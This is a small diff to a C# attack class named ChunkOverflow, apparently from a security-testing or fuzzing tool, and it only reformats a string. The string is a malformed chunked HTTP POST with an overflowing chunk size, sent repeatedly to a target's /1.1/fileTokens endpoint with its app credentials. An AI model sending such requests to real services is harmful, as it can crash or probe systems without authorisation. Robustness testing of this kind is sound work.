@@ -12,7 +12,8 @@ sealed class ChunkOverflow : IAttack
 
     public async Task<Finding> RunAsync(Target target, Dose dose, CancellationToken patience)
     {
-        var request = Encoding.ASCII.GetBytes($"POST /1.1/fileTokens HTTP/1.1\r\nHost: x\r\nX-LC-Id: {Target.ApplicationId}\r\nX-LC-Key: {Target.ApplicationKey}\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n");
+        var request = Encoding.ASCII.GetBytes($"POST /1.1/fileTokens HTTP/1.1\r\nHost: x\r\nX-LC-Id: {Target.ApplicationId}\r\nX-LC-Key: " +
+            $"{Target.ApplicationKey}\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n");
         var logged = target.Logged;
         HashSet<string> answers = [];
         for (var i = 0; i < dose.BadRequests; i++)
